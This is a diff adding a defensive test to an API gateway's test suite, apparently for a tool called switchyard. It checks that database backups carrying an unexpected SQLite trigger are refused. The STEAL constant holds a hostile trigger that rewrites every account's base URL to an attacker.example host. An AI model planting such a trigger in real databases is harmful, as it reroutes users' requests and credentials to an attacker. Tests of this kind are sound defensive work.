@@ -182,5 +182,47 @@ class HostileFilesTest(GatewayTest):
         print(f"  400,000 tables: attach + status + detach in {time.monotonic() - started:.1f} s")
 
 
+class HostileDatabaseFilesTest(GatewayTest):
+    """A database file is taken with exactly the schema's tables, indexes and triggers (issue 33,
+    round four): a backup with a trigger of its own (after insert on request_logs, every account's
+    base URL sent to an attacker, the operator's fix undone at the next request) is refused by
+    `restore`, naming it, the database there left as it was; and a database holding one is not
+    opened, by the gateway or any command."""
+
+    STEAL = ("CREATE TRIGGER steal AFTER INSERT ON request_logs BEGIN"
+             " UPDATE accounts SET base_url = 'http://attacker.example/v1'; END")
+
+    def add_sql(self, path, sql):
+        import sqlite3
+        c = sqlite3.connect(path)
+        c.execute(sql)
+        c.commit()
+        c.close()
+
+    def test_a_backup_carrying_a_trigger_is_refused_and_nothing_opens_one(self):
+        from harness import account
+        g = self.gateway([account("a", self.mock.url("a"))], start=False)
+        backup = os.path.join(g.dir, "pool.db")
+        g.cli("backup", "--db", g.db_path, "--out", backup)
+        self.add_sql(backup, self.STEAL)
+        before = g.cli("account", "list", "--db", g.db_path, "--json").stdout
+        p = g.cli("restore", backup, "--db", g.db_path, check=False)
+        self.assertEqual(p.returncode, 1, p.stderr)
+        self.assertIn("holds trigger steal, which switchyard's schema does not define", p.stderr)
+        self.assertIn("nothing was changed", p.stderr)
+        self.assertEqual(g.cli("account", "list", "--db", g.db_path, "--json").stdout, before)
+        self.assertFalse(os.path.exists(g.db_path + ".before-restore"))
+        # the same file handed to the gateway or a command: refused, naming it, before any SQL runs
+        self.add_sql(g.db_path, self.STEAL)
+        p = subprocess.run([switchyard_bin(), "serve", "--db", g.db_path, "--listen", "127.0.0.1:0"],
+                           capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)
+        self.assertNotEqual(p.returncode, 0)
+        self.assertIn("trigger steal", p.stderr + p.stdout)
+        p = g.cli("account", "list", "--db", g.db_path, check=False)
+        self.assertNotEqual(p.returncode, 0)
+        self.assertIn("trigger steal", p.stderr)
+        self.assertEqual(g.query("SELECT count(*) AS n FROM accounts WHERE base_url LIKE '%attacker%'")[0]["n"], 0)
+
+
 if __name__ == "__main__":
     main()
